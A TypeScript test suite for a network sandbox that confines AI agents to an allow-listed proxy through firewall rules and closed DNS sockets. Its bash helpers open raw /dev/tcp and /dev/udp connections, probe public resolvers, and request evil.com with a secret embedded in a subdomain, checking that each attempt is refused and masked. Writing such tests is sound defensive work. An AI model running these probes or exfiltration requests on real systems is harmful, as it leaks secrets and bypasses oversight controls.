/** The limit holds for a real user of this machine, by its real rules. */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createTcpServer } from "node:net";
import type { Server } from "node:net";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import type { AgentResult } from "../../../src/agents/agent.ts";
import { runProgram } from "../../../src/agents/as-root.ts";
import { createCommandAgent } from "../../../src/agents/command.ts";
import { allowHosts } from "../../../src/agents/network/allowed-hosts.ts";
import { raiseFirewall } from "../../../src/agents/network/firewall.ts";
import { createNetworkLimit } from "../../../src/agents/network/network-limit.ts";
import { closeSockets } from "../../../src/agents/network/resolver-sockets.ts";
import { systemProgram } from "../../../src/agents/system-programs.ts";
import type { WorkUser } from "../../../src/agents/work-user.ts";
import { agent, sha, workstream } from "../../support/builders.ts";
import { tellLeftOut } from "../../support/left-out.ts";
import { listRules, takesRules } from "../../support/network-rules.ts";
import { openFolder, openTestUser } from "../../support/work-user.ts";

const WHAT = "agents whose network is limited";
const opened = await openTestUser(WHAT);
const canLimit = opened !== undefined && (await takesRules(WHAT, opened.name));

function theUser(): WorkUser {
  if (opened === undefined) throw new Error("these tests are skipped without it");
  return opened;
}

/** The rules of the user. */
const ours = async () => (await listRules()).split("\n").filter((rule) => rule.includes(theUser().name));

async function listen(server: Server, port = 0): Promise<number> {
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject).listen(port, "127.0.0.1", resolve);
  });
  onTestFinished(() => void server.close());
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}

/** An agent in a folder of the user's, and how its network is limited. */
async function scene(network: readonly string[], user: WorkUser = theUser()) {
  const place = openFolder();
  const [tree, own] = [join(place, "tree"), join(place, "ours")];
  mkdirSync(tree);
  mkdirSync(own, { mode: 0o700 });
  writeFileSync(join(own, "prompt"), "do it\n");
  await theUser().own(tree);
  const logFile = join(own, "log");
  const allowed = allowHosts({ vendor: [], baseUrl: undefined, network });
  const limit = createNetworkLimit({ user, allowed, logFile, secrets: ["S3cret-in-a-name"] });
  onTestFinished(async () => {
    await limit.lift();
    await theUser().endAll();
    await theUser().reclaim(tree);
  });
  const run = async (script: string, env: Record<string, string> = {}): Promise<AgentResult> => {
    const base = { PATH: process.env["PATH"], ...env };
    const runner = createCommandAgent(base, { user: theUser(), network: limit, graceMs: 500 });
    const task = {
      workstream: workstream({ timeoutMinutes: 1 }),
      attempt: 1,
      claim: sha("claim"),
      agent: agent({ command: ["bash", "-c", `${TOOLS}\n${script}`], env: Object.keys(env) }),
      limits: { usd: undefined, tokens: undefined },
      directory: tree,
      home: join(place, "home"),
      promptFile: join(own, "prompt"),
      workstreamFile: join(own, "workstream"),
      logFile,
      groupFile: join(own, "group"),
    };
    return (await runner.run(task, { signal: new AbortController().signal })).result;
  };
  return { place, limit, run, log: () => readFileSync(logFile, "utf8") };
}

/** What an agent does: `get URL` by the proxy, `reach` a host's port or send a packet there without it. */
const TOOLS = `
get() { exec 3<>"/dev/tcp/127.0.0.1/\${http_proxy##*:}"; printf 'GET %s HTTP/1.0\\r\\n\\r\\n' "$1" >&3; cat <&3; echo; }
reach() { timeout 5 bash -c 'exec 3<>"/dev/$0"' "$1" 2>/dev/null && echo "reached $1"; }
send() { timeout 5 bash -c 'echo words >"/dev/$0"' "$1" 2>/dev/null && echo "sent to $1"; }`;

describe.skipIf(!canLimit)("an agent whose network is limited", () => {
  test("reaches what is allowed by the proxy, and its log says what it was refused and what to add", async () => {
    const port = await listen(createServer((_, response) => response.end("the answer")));
    const { run, limit, log } = await scene([`127.0.0.1:${port}`]);
    const script = `get http://127.0.0.1:${port}/; get http://evil.com/path; get http://evil.com/; get http://s3cret-in-a-name.evil.com/`;
    expect(await run(script)).toEqual({ kind: "exited", code: 0 });
    limit.tellRefusals();
    const key = "jobs.agent.network in the configuration";
    const lines = log().split("\n");
    expect(lines).toContain("the answer");
    expect(lines.filter((line) => line.startsWith("workstreams: "))).toEqual([
      `workstreams: the agent may not reach evil.com: to allow it, add evil.com to ${key}`,
      `workstreams: the agent may not reach ${"*".repeat(16)}.evil.com: to allow it, add ${"*".repeat(16)}.evil.com to ${key}`,
    ]);
    expect(log()).not.toContain("/path");
  });

  test("has all the variables that lead programs there, over its own", async () => {
    const { run, log } = await scene([]);
    await run("env | grep -iE '^[a-z_]*proxy='", {
      HTTPS_PROXY: "http://theirs:1",
      no_proxy: "*",
      NODE_USE_ENV_PROXY: "0",
    });
    const lines = log().trim().split("\n");
    const url = lines.find((line) => line.startsWith("ALL_PROXY="))?.replace("ALL_PROXY=", "");
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    const urls = ["ALL_PROXY", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "http_proxy", "https_proxy"];
    const hosts = ["NO_PROXY", "no_proxy"].map((name) => `${name}=localhost,127.0.0.1,::1`);
    const expected = [...urls.map((name) => `${name}=${url}`), ...hosts, "NODE_USE_ENV_PROXY=1"];
    expect(lines.toSorted()).toEqual(expected.toSorted());
  });

  test("gets nothing past the proxy: no connection, no packet, no name", async () => {
    const port = await listen(createTcpServer((socket) => socket.end()));
    const { run, log } = await scene([]);
    const script = `
      unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY
      for place in tcp/192.0.2.1/443 tcp/1.1.1.1/443 tcp/1.1.1.1/53 tcp/2606:4700::1111/443; do reach $place; done
      for place in udp/1.1.1.1/53 udp/192.0.2.1/123 udp/2606:4700::1111/53 udp/127.0.0.1/53 udp/::1/53; do send $place; done
      for server in $(grep -oE '^nameserver [0-9a-f.:]+' /etc/resolv.conf | cut -d' ' -f2); do reach tcp/$server/53; send udp/$server/53; done
      getent ahosts example.com
      reach tcp/127.0.0.1/${port}
      echo end`;
    expect(await run(script)).toEqual({ kind: "exited", code: 0 });
    expect(log()).toBe(`reached tcp/127.0.0.1/${port}\nend\n`);
  });

  test("is the only one: what serves names on this machine is closed to it, and to nobody else, until it is lifted", async (context) => {
    const server = createTcpServer((socket) => socket.end());
    await listen(server, 53).catch(() => context.skip("the port for names can't be had here"));
    const { run, limit, log } = await scene([]);
    await run("reach tcp/127.0.0.1/53; echo limited");
    const free = await runProgram(["/bin/bash", "-c", `${TOOLS}\nreach tcp/127.0.0.1/53`]);
    expect([log(), free]).toEqual(["limited\n", "reached tcp/127.0.0.1/53\n"]);
    await limit.lift();
    const { argv, env } = theUser().wrap(["/bin/bash", "-c", `${TOOLS}\nreach tcp/127.0.0.1/53`], {});
    expect(await runProgram(argv, env)).toBe("reached tcp/127.0.0.1/53\n");
  });

  test("no rule is left when it is lifted, and lifting twice is fine", async () => {
    const { limit } = await scene([]);
    expect(await limit.set()).toMatchObject({ kind: "set" });
    expect(await ours()).not.toEqual([]);
    await limit.lift();
    await limit.lift();
    expect(await ours()).toEqual([]);
  });

  test("the rules of a process that died are replaced", async () => {
    const first = await raiseFirewall(theUser().name);
    onTestFinished(() => first.remove());
    const count = (await ours()).length;
    const second = await raiseFirewall(theUser().name);
    expect(await ours()).toHaveLength(count);
    await second.remove();
    expect(await ours()).toEqual([]);
  });
});

describe("an agent whose network can't be limited does not start", () => {
  const ADVICE = "use one of GitHub's own Linux runners without a container, or take that key out";

  test("where it runs as our own user", async () => {
    const limit = createNetworkLimit({ user: undefined, allowed: () => undefined, logFile: "/dev/null", secrets: [] });
    expect(await limit.set()).toEqual({
      kind: "unavailable",
      why: `jobs.agent.network can't be kept to here: agents don't run as another user here; ${ADVICE}`,
    });
  });

  test.skipIf(!canLimit)("where the system refuses a rule: nothing is left of it", async () => {
    const { run, log } = await scene([], { ...theUser(), name: "no-such-user-here" });
    const result = await run("echo started");
    expect(result).toMatchObject({
      kind: "not-started",
      message: expect.stringMatching(/iptables refuses its rules: .+;/),
    });
    expect(() => log()).toThrow("ENOENT");
    expect(await listRules()).not.toContain("no-such-user-here");
  });

  test.skipIf(!canLimit)("where the rules do not hold for it: they are found out, and taken away", async () => {
    const everything: WorkUser = { ...theUser(), wrap: (argv, env) => ({ argv, env: { ...env } }) };
    const { run, log } = await scene([], everything);
    expect(await run("echo started")).toMatchObject({
      kind: "not-started",
      message: expect.stringContaining("it does not hold"),
    });
    expect(() => log()).toThrow("ENOENT");
    expect(await ours()).toEqual([]);
  });
});

describe.skipIf(opened === undefined)("a service that looks names up", () => {
  const hasLists = existsSync(systemProgram("setfacl"));
  if (!hasLists) tellLeftOut("services closed to one user", "setfacl (package acl)");

  test.skipIf(!hasLists)("is closed to the user alone, and open again", async () => {
    const place = openFolder();
    const [path, other] = [join(place, "socket"), join(place, "none")];
    const server = createTcpServer((socket) => socket.end());
    await new Promise<void>((resolve) => void server.listen({ path, writableAll: true, readableAll: true }, resolve));
    onTestFinished(() => void server.close());
    const can = async (argv: readonly string[], env?: Record<string, string>) =>
      (await runProgram([...argv], env)) === "open\n";
    const script = ["/bin/sh", "-c", 'test -w "$1" && echo open || echo closed', "probe", path];
    const { argv, env } = theUser().wrap(script, {});
    const open = await closeSockets(theUser().name, [path, other]);
    expect([await can(argv, env), await can(script)]).toEqual([false, true]);
    await open();
    expect([await can(argv, env), await can(script)]).toEqual([true, true]);
  });
});
